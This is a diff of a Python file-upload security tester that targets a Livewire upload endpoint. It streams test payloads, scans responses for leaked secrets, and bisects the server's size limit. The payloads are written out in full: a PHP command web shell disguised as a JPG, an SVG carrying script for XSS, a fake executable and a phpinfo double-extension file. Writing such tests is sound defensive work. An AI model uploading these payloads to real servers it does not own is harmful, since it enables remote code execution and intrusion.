@@ -4,22 +4,52 @@ Test File Upload Vulnerabilities
 Tests if malicious files can be uploaded (XSS, PHP shells, etc.)
 """
 
-import requests
-import time
 import json
-import tempfile
+import sys
 import os
 from datetime import datetime
+from urllib.parse import urlsplit
 from colorama import Fore, Style, init
 
+# Add parent directory to path for shared helper imports
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from http_transport import get_transport, preview
+from results_sink import emit_result
+from results_store import save_suite_file
+from pacing import get_pacer
+from response_scanner import SECRETS_GROUP, get_scanner
+from upload_payloads import BytesSource, StreamingMultipartBody, SyntheticSource, payload_source, post_streaming
+
 init(autoreset=True)
 
+MB = 1024 * 1024
+
 class FileUploadTester:
-    def __init__(self, base_url):
+    # Registry metadata (tester_registry.py reads these without importing the module)
+    suite_name = "File Upload Security"
+    order = 4
+    severity = 'CRITICAL'
+    tags = ('upload', 'rce', 'xss')
+    test_count = 5
+    optional_tests = {'UPLOAD_FIND_LIMIT': 1}
+    estimated_duration = 45
+    run_args = None
+    description = 'PHP shells, XSS, malware upload'
+    endpoints = ('/livewire/upload-file',)
+
+    def __init__(self, base_url, oversized_mb=None, find_limit=None):
         self.base_url = base_url.rstrip('/')
         self.results = []
-
-    def log_result(self, test_name, success, details):
+        self.http = get_transport()
+        self.scanner = get_scanner()
+        # Size of the oversized upload probe (Livewire's limit is 12MB)
+        self.oversized_mb = oversized_mb or int(os.getenv('UPLOAD_OVERSIZE_MB', '20'))
+        self.expected_limit_mb = float(os.getenv('UPLOAD_EXPECTED_LIMIT_MB', '12'))
+        if find_limit is None:
+            find_limit = os.getenv('UPLOAD_FIND_LIMIT', 'false').lower() == 'true'
+        self.find_limit = find_limit
+
+    def log_result(self, test_name, success, details, **extra):
         """Log test result"""
         result = {
             'test': test_name,
@@ -27,36 +57,49 @@ class FileUploadTester:
             'details': details,
             'timestamp': datetime.now().isoformat()
         }
+        result.update(extra)
         self.results.append(result)
+        emit_result(self.suite_name, result)
 
         status = f"{Fore.RED}VULNERABLE" if success else f"{Fore.GREEN}SECURE"
         print(f"[{status}{Style.RESET_ALL}] {test_name}")
         print(f"  └─ {details}\n")
 
+    def upload(self, filename, source, content_type, timeout=15):
+        """POST a payload source to the Livewire upload endpoint as a streamed multipart body"""
+        body = StreamingMultipartBody('files[]', filename, content_type, source)
+        return self.http.post(
+            f"{self.base_url}/livewire/upload-file",
+            data=body,
+            headers=body.headers,
+            timeout=timeout
+        )
+
+    def print_leaks(self, response):
+        """Point out debug traces and secrets in an upload response; failing upload handlers often dump them"""
+        found = self.scanner.scan(response.content)
+        leaks = found.in_group('debug') + found.in_group(SECRETS_GROUP)
+        for match in sorted(leaks, key=lambda match: match.start):
+            print(f"{Fore.YELLOW}! Response leaks {match.name} at bytes {match.start}-{match.end}{Style.RESET_ALL}")
+        if leaks:
+            print()
+
     def test_php_shell_upload(self):
         """Test if PHP shell can be uploaded"""
         print(f"\n{Fore.CYAN}{'='*60}")
         print(f"TEST 1: PHP Shell Upload (disguised as JPG)")
         print(f"{'='*60}{Style.RESET_ALL}\n")
 
-        # Create PHP shell disguised as JPG
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.jpg', delete=False) as f:
-            f.write('<?php system($_GET["cmd"]); ?>')
-            php_shell = f.name
-
         try:
             print(f"Created test file: shell.php.jpg")
             print(f"Attempting upload to /livewire/upload-file...\n")
 
-            with open(php_shell, 'rb') as f:
-                response = requests.post(
-                    f"{self.base_url}/livewire/upload-file",
-                    files={'files[]': ('shell.php.jpg', f, 'image/jpeg')},
-                    timeout=15
-                )
+            # PHP shell disguised as JPG
+            response = self.upload('shell.php.jpg', BytesSource('<?php system($_GET["cmd"]); ?>'), 'image/jpeg')
 
             print(f"Status Code: {response.status_code}")
-            print(f"Response: {response.text[:500]}\n")
+            print(f"Response: {preview(response, 500)}\n")
+            self.print_leaks(response)
 
             # If upload succeeds (200), it's vulnerable
             if response.status_code == 200:
@@ -90,8 +133,6 @@ class FileUploadTester:
             print(f"{Fore.RED}Error: {str(e)}{Style.RESET_ALL}\n")
             self.log_result("PHP Shell Upload", False, f"Error: {str(e)}")
             return False
-        finally:
-            os.unlink(php_shell)
 
     def test_svg_xss_upload(self):
         """Test if malicious SVG can be uploaded"""
@@ -105,23 +146,15 @@ class FileUploadTester:
     <script>alert('XSS')</script>
 </svg>'''
 
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.svg', delete=False) as f:
-            f.write(svg_content)
-            svg_file = f.name
-
         try:
             print(f"Created malicious SVG with embedded JavaScript")
             print(f"Attempting upload...\n")
 
-            with open(svg_file, 'rb') as f:
-                response = requests.post(
-                    f"{self.base_url}/livewire/upload-file",
-                    files={'files[]': ('xss.svg', f, 'image/svg+xml')},
-                    timeout=15
-                )
+            response = self.upload('xss.svg', BytesSource(svg_content), 'image/svg+xml')
 
             print(f"Status Code: {response.status_code}")
-            print(f"Response: {response.text[:500]}\n")
+            print(f"Response: {preview(response, 500)}\n")
+            self.print_leaks(response)
 
             if response.status_code == 200:
                 self.log_result(
@@ -142,8 +175,6 @@ class FileUploadTester:
             print(f"{Fore.RED}Error: {str(e)}{Style.RESET_ALL}\n")
             self.log_result("SVG XSS Upload", False, f"Error: {str(e)}")
             return False
-        finally:
-            os.unlink(svg_file)
 
     def test_executable_upload(self):
         """Test if executable files can be uploaded"""
@@ -151,24 +182,16 @@ class FileUploadTester:
         print(f"TEST 3: Executable File Upload")
         print(f"{'='*60}{Style.RESET_ALL}\n")
 
-        # Create fake executable
-        with tempfile.NamedTemporaryFile(mode='wb', suffix='.exe', delete=False) as f:
-            f.write(b'MZ\x90\x00')  # PE header signature
-            exe_file = f.name
-
         try:
             print(f"Created fake executable file")
             print(f"Attempting upload...\n")
 
-            with open(exe_file, 'rb') as f:
-                response = requests.post(
-                    f"{self.base_url}/livewire/upload-file",
-                    files={'files[]': ('malware.exe', f, 'application/octet-stream')},
-                    timeout=15
-                )
+            # Fake executable: PE header signature only
+            response = self.upload('malware.exe', BytesSource(b'MZ\x90\x00'), 'application/octet-stream')
 
             print(f"Status Code: {response.status_code}")
-            print(f"Response: {response.text[:300]}\n")
+            print(f"Response: {preview(response, 300)}\n")
+            self.print_leaks(response)
 
             if response.status_code == 200:
                 self.log_result(
@@ -189,40 +212,36 @@ class FileUploadTester:
             print(f"{Fore.RED}Error: {str(e)}{Style.RESET_ALL}\n")
             self.log_result("Executable Upload", False, f"Error: {str(e)}")
             return False
-        finally:
-            os.unlink(exe_file)
 
     def test_oversized_file_upload(self):
         """Test if oversized files are rejected"""
+        size_mb = self.oversized_mb
+
         print(f"\n{Fore.CYAN}{'='*60}")
-        print(f"TEST 4: Oversized File Upload (20MB)")
+        print(f"TEST 4: Oversized File Upload ({size_mb}MB)")
         print(f"{'='*60}{Style.RESET_ALL}\n")
 
-        # Create 20MB file (exceeds 12MB limit)
-        with tempfile.NamedTemporaryFile(mode='wb', suffix='.jpg', delete=False) as f:
-            f.write(b'\x00' * (20 * 1024 * 1024))  # 20MB of zeros
-            large_file = f.name
+        # Streamed from a generator (or UPLOAD_PAYLOAD_FILE via mmap), never written to disk
+        source = payload_source(size_mb * 1024 * 1024)
+        size_mb = source.size / (1024 * 1024)
 
         try:
-            print(f"Created 20MB test file")
+            print(f"Streaming {size_mb:.0f}MB test payload")
             print(f"Attempting upload (should be rejected)...\n")
 
-            with open(large_file, 'rb') as f:
-                response = requests.post(
-                    f"{self.base_url}/livewire/upload-file",
-                    files={'files[]': ('large.jpg', f, 'image/jpeg')},
-                    timeout=30
-                )
+            # Allow roughly 1MB/s on slow links, but never less than the old 30s
+            response = self.upload('large.jpg', source, 'image/jpeg', timeout=max(30, size_mb))
 
             print(f"Status Code: {response.status_code}")
-            print(f"Response: {response.text[:300]}\n")
+            print(f"Response: {preview(response, 300)}\n")
+            self.print_leaks(response)
 
             # If upload succeeds, it's a problem (should reject oversized files)
             if response.status_code == 200:
                 self.log_result(
                     "Oversized File Upload",
                     True,
-                    "20MB file accepted (exceeds limit!)"
+                    f"{size_mb:.0f}MB file accepted (exceeds limit!)"
                 )
                 return True
             else:
@@ -237,8 +256,86 @@ class FileUploadTester:
             print(f"{Fore.YELLOW}Error (likely timeout): {str(e)}{Style.RESET_ALL}\n")
             self.log_result("Oversized File Upload", False, "Upload failed (timeout/error)")
             return False
-        finally:
-            os.unlink(large_file)
+
+    def probe_upload_size(self, size):
+        """Upload size bytes of synthetic data, stopping early if the server rejects it"""
+        url = f"{self.base_url}/livewire/upload-file"
+        body = StreamingMultipartBody('files[]', 'probe.jpg', 'image/jpeg', SyntheticSource(size))
+
+        # Raw socket, so it paces itself against the shared scheduler
+        host = urlsplit(url).hostname
+        pacer = get_pacer()
+        pacer.wait(host)
+        try:
+            probe = post_streaming(url, body, timeout=max(30, size / MB), tls_context=self.http.socket_tls_context)
+        except OSError:
+            pacer.observe_error(host)
+            raise
+        pacer.observe(host, probe.status_code, probe.elapsed)
+        return probe
+
+    def test_upload_size_limit(self, low_mb=None, high_mb=None, resolution_kb=64):
+        """Find the largest accepted upload size by bisection"""
+        low = int((low_mb if low_mb is not None else float(os.getenv('UPLOAD_LIMIT_LOW_MB', '0.001'))) * MB)
+        high = int((high_mb or float(os.getenv('UPLOAD_LIMIT_HIGH_MB', max(64, 2 * self.oversized_mb)))) * MB)
+        resolution = resolution_kb * 1024
+
+        print(f"\n{Fore.CYAN}{'='*60}")
+        print(f"TEST 6: Upload Size Limit Discovery ({low / MB:.3f}MB - {high / MB:.0f}MB)")
+        print(f"{'='*60}{Style.RESET_ALL}\n")
+
+        probes = []
+
+        def accepted(size):
+            probe = self.probe_upload_size(size)
+            probes.append(probe)
+            outcome = f"{Fore.RED}accepted" if probe.accepted else f"{Fore.GREEN}rejected"
+            early = f", aborted after {probe.bytes_sent / MB:.2f}MB" if probe.aborted else ""
+            print(f"  {size / MB:10.3f}MB -> {probe.status_code} {outcome}{Style.RESET_ALL}{early}")
+            return probe.accepted
+
+        def report(success, details, limit):
+            self.log_result(
+                "Upload Size Limit",
+                success,
+                details,
+                limit_bytes=limit,
+                probes=len(probes),
+                bytes_sent=sum(p.bytes_sent for p in probes),
+                probe_log=[p.to_dict() for p in probes]
+            )
+
+        try:
+            if not accepted(low):
+                report(False, f"Even {low} bytes was rejected - cannot bisect (upload blocked or auth required)", None)
+                return False
+
+            if accepted(high):
+                report(True, f"No limit found: {high / MB:.0f}MB accepted ({len(probes)} probes)", high)
+                return True
+
+            # Invariant: low is accepted, high is rejected
+            while high - low > resolution:
+                mid = (low + high) // 2
+                if accepted(mid):
+                    low = mid
+                else:
+                    high = mid
+
+        except OSError as e:
+            print(f"{Fore.RED}Error: {str(e)}{Style.RESET_ALL}\n")
+            report(False, f"Error after {len(probes)} probes: {str(e)}", None)
+            return False
+
+        limit_mb = low / MB
+        print(f"\nLargest accepted upload: {limit_mb:.2f}MB ({len(probes)} probes)\n")
+
+        too_large = limit_mb > self.expected_limit_mb
+        details = f"Server accepts uploads up to {limit_mb:.2f}MB ({len(probes)} probes)"
+        if too_large:
+            details += f" - above the expected {self.expected_limit_mb:g}MB limit!"
+        report(too_large, details, low)
+        return too_large
 
     def test_double_extension_upload(self):
         """Test if double extension files can bypass filters"""
@@ -246,24 +343,15 @@ class FileUploadTester:
         print(f"TEST 5: Double Extension Upload (shell.php.jpg)")
         print(f"{'='*60}{Style.RESET_ALL}\n")
 
-        # Create file with double extension
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.php.jpg', delete=False) as f:
-            f.write('<?php phpinfo(); ?>')
-            double_ext = f.name
-
         try:
             print(f"Created file with double extension")
             print(f"Attempting upload...\n")
 
-            with open(double_ext, 'rb') as f:
-                response = requests.post(
-                    f"{self.base_url}/livewire/upload-file",
-                    files={'files[]': ('shell.php.jpg', f, 'image/jpeg')},
-                    timeout=15
-                )
+            response = self.upload('shell.php.jpg', BytesSource('<?php phpinfo(); ?>'), 'image/jpeg')
 
             print(f"Status Code: {response.status_code}")
-            print(f"Response: {response.text[:300]}\n")
+            print(f"Response: {preview(response, 300)}\n")
+            self.print_leaks(response)
 
             if response.status_code == 200:
                 self.log_result(
@@ -284,8 +372,6 @@ class FileUploadTester:
             print(f"{Fore.RED}Error: {str(e)}{Style.RESET_ALL}\n")
             self.log_result("Double Extension Upload", False, f"Error: {str(e)}")
             return False
-        finally:
-            os.unlink(double_ext)
 
     def run_all_tests(self):
         """Run all file upload tests"""
@@ -297,19 +383,18 @@ class FileUploadTester:
 
         # Run tests
         self.test_php_shell_upload()
-        time.sleep(1)
 
         self.test_svg_xss_upload()
-        time.sleep(1)
 
         self.test_executable_upload()
-        time.sleep(1)
 
         self.test_double_extension_upload()
-        time.sleep(1)
 
         self.test_oversized_file_upload()
 
+        if self.find_limit:
+            self.test_upload_size_limit()
+
         # Summary
         print(f"\n{Fore.YELLOW}{'='*60}")
         print(f"TEST SUMMARY")
@@ -338,12 +423,15 @@ if __name__ == "__main__":
 
     base_url = os.getenv('BASE_URL', 'https://evenleads.com')
 
-    if len(sys.argv) > 1:
-        base_url = sys.argv[1]
+    args = [arg for arg in sys.argv[1:] if not arg.startswith('--')]
+    if args:
+        base_url = args[0]
 
-    tester = FileUploadTester(base_url)
+    tester = FileUploadTester(base_url, find_limit=True if '--find-limit' in sys.argv else None)
     results = tester.run_all_tests()
 
     with open('results_file_upload.json', 'w') as f:
         json.dump(results, f, indent=2)
     print(f"Results saved to: results_file_upload.json")
+
+    save_suite_file(base_url, tester, 'results_file_upload.json')